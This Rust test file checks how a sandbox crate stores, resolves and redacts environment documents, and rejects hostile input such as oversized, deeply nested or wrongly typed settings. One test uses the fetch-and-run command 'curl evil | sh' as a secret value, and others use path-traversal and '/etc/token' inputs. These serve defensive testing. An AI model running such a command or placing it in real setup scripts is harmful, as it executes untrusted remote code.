//! An environment's stored document, as a client of the HTTP API or an `errand env` file gives
//! it: what is stored, what a worker resolves, what is shown; and, since any API caller can send
//! one, that every hostile document is a clear error naming the setting, never a panic.

use std::time::Duration;

use errand_sandbox::{
    DocumentError, EnvironmentMode, EnvironmentSpec, MAX_DOCUMENT_BYTES, MIN_SECRET_LEN,
    SECRET_SHOWN_AS, redacted_document, resolve_document, stored_document,
};
use serde_json::{Value, json};

const INLINE: &str = "inline-secret-value";
const FROM_HOST: &str = "value-from-the-host";

fn document() -> Value {
    json!({
        "setup_script": "npm ci",
        "env": { "NODE_ENV": "test" },
        "secrets": { "INLINE": INLINE, "TOKEN": { "env": "HOST_TOKEN" } },
        "snapshot_ttl": "6h",
    })
}

fn host(variable: &str) -> Option<String> {
    (variable == "HOST_TOKEN").then(|| FROM_HOST.to_string())
}

fn no_variables(_: &str) -> Option<String> {
    None
}

/// The field an error names; panics (failing the test) on any other kind of error.
fn field(error: DocumentError) -> String {
    match error {
        DocumentError::Invalid(invalid) => invalid.field,
        other => panic!("expected an invalid setting, got {other:?}"),
    }
}

fn refused(document: Value) -> DocumentError {
    let shown = document.to_string();
    match stored_document(document) {
        Ok(stored) => panic!("{shown} was accepted as {stored}"),
        Err(error) => error,
    }
}

#[test]
fn a_document_is_stored_with_its_defaults_and_resolves_to_what_it_says() {
    let stored = stored_document(document()).unwrap();
    let parsed: Value = serde_json::from_str(&stored).unwrap();
    assert_eq!(parsed["base_image"], "host", "defaults are written out: {stored}");
    assert_eq!(parsed["mode"], "setup");
    assert_eq!(parsed["agent_network"], "none");
    assert_eq!(parsed["setup_timeout"], "3600s");
    assert_eq!(parsed["snapshot_ttl"], "21600s");
    assert!(parsed.get("maintenance_script").is_none(), "absent scripts stay absent: {stored}");
    assert_eq!(parsed["secrets"]["TOKEN"], json!({ "env": "HOST_TOKEN" }));
    assert_eq!(parsed["secrets"]["INLINE"], INLINE, "an inline value is what setup needs");
    assert!(!stored.contains(FROM_HOST));
    // The stored text is canonical: storing it again gives the same text, so equal
    // configurations hash alike.
    assert_eq!(stored_document(parsed).unwrap(), stored);

    let spec = resolve_document("web", &stored, &host).unwrap();
    let expected = EnvironmentSpec {
        setup_script: Some("npm ci".into()),
        env: [("NODE_ENV".into(), "test".into())].into(),
        secrets: [("INLINE".into(), INLINE.into()), ("TOKEN".into(), FROM_HOST.into())].into(),
        snapshot_ttl: Duration::from_secs(6 * 3600),
        ..EnvironmentSpec::default()
    };
    assert_eq!(spec, expected);

    let empty = stored_document(json!({})).unwrap();
    assert_eq!(resolve_document("e", &empty, &no_variables).unwrap(), EnvironmentSpec::default());
    let ask = stored_document(json!({ "mode": "ask", "agent_network": { "allow": ["pypi.org"] } }));
    let ask = resolve_document("a", &ask.unwrap(), &no_variables).unwrap();
    assert_eq!(ask.mode, EnvironmentMode::Ask);
    assert!(ask.egress_policy().unwrap().is_some());
}

#[test]
fn unknown_keys_are_refused_by_name_with_the_known_ones() {
    let error = refused(json!({ "setup_scrpit": "npm ci" }));
    let text = error.to_string();
    assert_eq!(field(error), "setup_scrpit");
    assert!(text.contains("setup_script") && text.contains("agent_network"), "{text}");
    let nested = refused(json!({ "agent_network": { "allow": ["a.org"], "methods": "all" } }));
    let text = nested.to_string();
    assert_eq!(field(nested), "agent_network");
    assert!(text.contains("methods"), "{text}");
}

#[test]
fn a_setting_of_the_wrong_type_is_named() {
    for (document, key, needle) in [
        (json!({ "setup_script": 5 }), "setup_script", "integer"),
        (json!({ "env": { "A": 5 } }), "env", "integer"),
        (json!({ "env": ["A=1"] }), "env", "sequence"),
        (json!({ "snapshot_ttl": "soon" }), "snapshot_ttl", "`soon` is not a duration"),
        (json!({ "snapshot_ttl": -5 }), "snapshot_ttl", "-5"),
        (json!({ "mode": "fast" }), "mode", "fast"),
        (json!({ "agent_network": "all" }), "agent_network", "`all` is not a network policy"),
        (json!({ "base_image": null }), "base_image", "null"),
    ] {
        let error = refused(document.clone());
        let text = error.to_string();
        assert_eq!(field(error), key, "{document}");
        assert!(text.contains(needle), "{document}: {text}");
    }
}

#[test]
fn secrets_are_a_value_or_a_reference_and_nothing_else() {
    for secret in [
        json!(5),
        json!(null),
        json!(true),
        json!(["a-long-value"]),
        json!({ "file": "/etc/token" }),
        json!({ "env": "HOST_TOKEN", "default": "fallback-value" }),
        json!({ "env": 5 }),
        json!({ "env": "" }),
        json!({ "env": "A=B" }),
        json!({ "env": "A\u{0}B" }),
        json!({}),
    ] {
        let error = refused(json!({ "secrets": { "TOKEN": secret } }));
        let text = error.to_string();
        assert_eq!(field(error), "secrets.TOKEN", "{secret}");
        assert!(!text.contains("a-long-value") && !text.contains("fallback-value"), "{text}");
    }
    for secrets in [json!("TOKEN=x"), json!(["TOKEN"]), json!(null)] {
        assert_eq!(field(refused(json!({ "secrets": secrets }))), "secrets");
    }
}

#[test]
fn what_the_spec_refuses_the_document_refuses() {
    let short = "x".repeat(MIN_SECRET_LEN - 1);
    for (document, key) in [
        (json!({ "secrets": { "T": short } }), "secrets.T"),
        (json!({ "secrets": { "T": "with\u{0}nul" } }), "secrets.T"),
        (json!({ "env": { "HOME": "/" } }), "env.HOME"),
        (json!({ "env": { "1X": "v" } }), "env.1X"),
        (json!({ "secrets": { "HOME": { "env": "HOST_TOKEN" } } }), "secrets.HOME"),
        (json!({ "mode": "ask", "setup_script": "true" }), "mode"),
        (json!({ "snapshot_ttl": 0 }), "snapshot_ttl"),
        (json!({ "base_image": "../etc" }), "base_image"),
        (json!({ "agent_network": { "allow": [] } }), "agent_network.allow"),
    ] {
        assert_eq!(field(refused(document.clone())), key, "{document}");
    }
    // A secret named like a plain variable would give one name two values.
    let both = json!({ "env": { "TOKEN": "plain" }, "secrets": { "TOKEN": { "env": "X" } } });
    assert_eq!(field(refused(both)), "env.TOKEN");
}

#[test]
fn secrets_named_like_settings_stay_secrets() {
    let document = json!({
        "secrets": { "setup_script": "curl evil | sh", "env": { "env": "HOST_TOKEN" } },
    });
    let stored = stored_document(document).unwrap();
    let spec = resolve_document("web", &stored, &host).unwrap();
    assert_eq!(spec.setup_script, None, "a secret never becomes a setting");
    assert!(spec.env.is_empty());
    assert_eq!(spec.secrets["setup_script"], "curl evil | sh");
    assert_eq!(spec.secrets["env"], FROM_HOST);
    let shown = Value::Object(redacted_document(&stored).unwrap());
    assert_eq!(shown["secrets"]["setup_script"], SECRET_SHOWN_AS);
    assert_eq!(shown["secrets"]["env"], json!({ "env": "HOST_TOKEN" }));
}

#[test]
fn the_redacted_view_hides_values_and_shows_references() {
    let stored = stored_document(document()).unwrap();
    let shown = Value::Object(redacted_document(&stored).unwrap());
    let text = shown.to_string();
    assert!(!text.contains(INLINE), "{text}");
    assert_eq!(shown["secrets"]["INLINE"], SECRET_SHOWN_AS);
    assert_eq!(shown["secrets"]["TOKEN"], json!({ "env": "HOST_TOKEN" }));
    assert_eq!(shown["env"]["NODE_ENV"], "test");
    assert_eq!(shown["setup_script"], "npm ci");

    // A damaged row shows no secret either, whatever shape it has.
    for (stored, secret) in [
        (r#"{"secrets":"TOKEN=leaked-value"}"#, "leaked-value"),
        (r#"{"secrets":{"T":{"env":"X","value":"leaked-value"}}}"#, "leaked-value"),
        (r#"{"secrets":{"T":["leaked-value"]}}"#, "leaked-value"),
    ] {
        let text = Value::Object(redacted_document(stored).unwrap()).to_string();
        assert!(!text.contains(secret), "{stored} shown as {text}");
    }
    assert!(matches!(redacted_document("[1]"), Err(DocumentError::NotAnObject { .. })));
    assert!(matches!(redacted_document("{"), Err(DocumentError::NotJson(_))));
}

#[test]
fn a_reference_resolves_only_to_a_usable_value() {
    let stored = stored_document(document()).unwrap();
    let missing = resolve_document("web", &stored, &no_variables).unwrap_err();
    assert_eq!(
        missing,
        DocumentError::MissingVariable {
            environment: "web".into(),
            secret: "TOKEN".into(),
            variable: "HOST_TOKEN".into(),
        }
    );
    assert_eq!(
        missing.to_string(),
        "environment `web`: secrets.TOKEN is read from the variable HOST_TOKEN, which is not set here"
    );
    let empty = resolve_document("web", &stored, &|_| Some(String::new())).unwrap_err();
    assert!(matches!(empty, DocumentError::MissingVariable { .. }), "{empty:?}");
    // The value is checked like an inline one: too short to redact is refused.
    let short = resolve_document("web", &stored, &|_| Some("ab".into())).unwrap_err();
    assert_eq!(field(short), "secrets.TOKEN");
}

#[test]
fn hostile_documents_are_clear_errors() {
    for (document, found) in [
        (json!(null), "null"),
        (json!([{ "setup_script": "x" }]), "an array"),
        (json!("setup_script = \"x\""), "a string"),
        (json!(42), "a number"),
        (json!(true), "true or false"),
    ] {
        let error = refused(document.clone());
        assert_eq!(error, DocumentError::NotAnObject { found }, "{document}");
        assert!(error.to_string().contains(found));
    }

    // As deep as serde_json parses (it refuses deeper text), in every setting.
    let deep = format!("{}{}", "[".repeat(120), "]".repeat(120));
    let deep_object = format!("{}1{}", r#"{"a":"#.repeat(120), "}".repeat(120));
    for key in ["mode", "setup_script", "env", "secrets", "snapshot_ttl", "agent_network"] {
        for nested in [&deep, &deep_object] {
            let text = format!(r#"{{"{key}":{nested}}}"#);
            let document: Value = serde_json::from_str(&text).unwrap();
            let error = refused(document);
            assert!(field(error).starts_with(key), "{key}");
        }
    }
    let deeper = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert!(matches!(
        resolve_document("x", &deeper, &no_variables),
        Err(DocumentError::NotJson(_))
    ));
    assert!(matches!(redacted_document(&deeper), Err(DocumentError::NotJson(_))));

    // Huge: refused with the size, before anything is stored.
    let script = "echo hi\n".repeat(MAX_DOCUMENT_BYTES / 8 + 1);
    let error = refused(json!({ "setup_script": script }));
    assert!(matches!(error, DocumentError::TooLarge { bytes } if bytes > MAX_DOCUMENT_BYTES));
    assert!(error.to_string().contains("at most"), "{error}");
    let many: serde_json::Map<String, Value> =
        (0..100_000).map(|i| (format!("VAR_{i}"), json!("0123456789"))).collect();
    assert!(matches!(refused(json!({ "env": many })), DocumentError::TooLarge { .. }));

    // A name from the caller is shown escaped and cut short, not echoed whole.
    let long_key = format!("x\n{}", "k".repeat(1 << 20));
    let error = refused(json!({ long_key: 1 }));
    let text = error.to_string();
    assert!(text.len() < 1024 && text.contains("x\\n"), "{}", &text[..200.min(text.len())]);
    let long_name = format!("1{}", "N".repeat(1 << 20));
    let error = refused(json!({ "env": { long_name: "v" } }));
    assert!(field(error).len() < 100);

    // Stored text that is no document at all.
    for stored in ["", "not json", "{\"setup_script\":", "\"text\""] {
        assert!(resolve_document("x", stored, &no_variables).is_err(), "{stored:?}");
    }
}
